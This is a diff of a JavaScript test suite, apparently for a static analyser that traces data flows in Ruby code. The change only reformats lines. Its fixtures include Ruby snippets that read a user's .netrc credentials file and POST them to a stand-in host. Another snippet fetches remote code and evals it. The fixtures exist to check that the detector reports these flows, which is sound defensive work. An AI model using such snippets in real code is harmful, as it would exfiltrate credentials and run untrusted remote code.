@@ -29,10 +29,16 @@ describe('Ruby', () => {
     for (const each of expected) expect(all).toContain(each);
   });
   it('follows data', async () => {
-    const source = 'require "net/http"\ndef grab(p)\n  File.read(p)\nend\nd = grab("/home/u/.netrc")\nNet::HTTP.post(URI("https://a.example"), Base64.encode64(d))';
+    const source =
+      'require "net/http"\ndef grab(p)\n  File.read(p)\nend\nd = grab("/home/u/.netrc")\nNet::HTTP.post(URI("https://a.example"), Base64.encode64(d))';
     expect((await readAll({ 'a.rb': source })).flows('read', 'request')).toContain('read /home/u/.netrc -> POST https://a.example (body)');
-    expect((await readAll({ 'a.rb': 'require "open-uri"\neval(URI.open("https://a.example").read)' })).flows('request', 'exec')).toEqual(['GET https://a.example -> eval eval (code)']);
-    const files = await readAll({ 'a.rb': "require_relative 'lib/b'\nship(File.read('/home/u/.netrc'))", 'lib/b.rb': 'def ship(d)\n  HTTParty.post("https://a.example", body: d)\nend' });
+    expect((await readAll({ 'a.rb': 'require "open-uri"\neval(URI.open("https://a.example").read)' })).flows('request', 'exec')).toEqual([
+      'GET https://a.example -> eval eval (code)',
+    ]);
+    const files = await readAll({
+      'a.rb': "require_relative 'lib/b'\nship(File.read('/home/u/.netrc'))",
+      'lib/b.rb': 'def ship(d)\n  HTTParty.post("https://a.example", body: d)\nend',
+    });
     expect(files.flows('read', 'request')).toEqual(['read /home/u/.netrc -> POST https://a.example (body)']);
   });
   it('leaves comments and strings alone', async () => {
